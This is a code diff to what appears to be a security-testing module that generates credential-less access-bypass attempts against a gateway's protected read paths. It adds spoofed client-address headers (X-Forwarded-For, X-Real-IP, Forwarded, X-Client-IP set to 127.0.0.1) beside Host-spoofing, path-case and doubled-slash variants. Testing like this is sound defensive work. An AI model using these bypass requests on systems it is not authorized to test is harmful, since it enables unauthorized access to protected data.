@@ -41,6 +41,13 @@ def read_paths() -> list[str]:
     return _catalog_paths("read")
 
 
+#: Spoofed client-address headers a gateway may trust to let "local" callers in; sent
+#: together first, then one by one only when together they open the door (to name which).
+CLIENT_ADDRESS_HEADERS = (("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"),
+                          ("Forwarded", "for=127.0.0.1"), ("X-Client-IP", "127.0.0.1"))
+CLIENT_ADDRESS_LABEL = "X-Forwarded-For/X-Real-IP/Forwarded/X-Client-IP: 127.0.0.1"
+
+
 @dataclass(frozen=True)
 class Variant:
     """One way to ask for a protected read without credentials (EXP-02 bypass attempts)."""
@@ -55,8 +62,7 @@ def bypass_variants(path: str) -> list[Variant]:
     base, _, query = path.partition("?")
     q = f"?{query}" if query else ""
     out = [
-        Variant("X-Forwarded-For: 127.0.0.1", "GET", path,
-                (("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"))),
+        Variant(CLIENT_ADDRESS_LABEL, "GET", path, CLIENT_ADDRESS_HEADERS),
         Variant("Host: localhost", "GET", path, (("Host", "localhost"),)),
         Variant("path case", "GET", base.upper() + q),
         Variant("doubled slashes", "GET", base.replace("/", "//") + q),
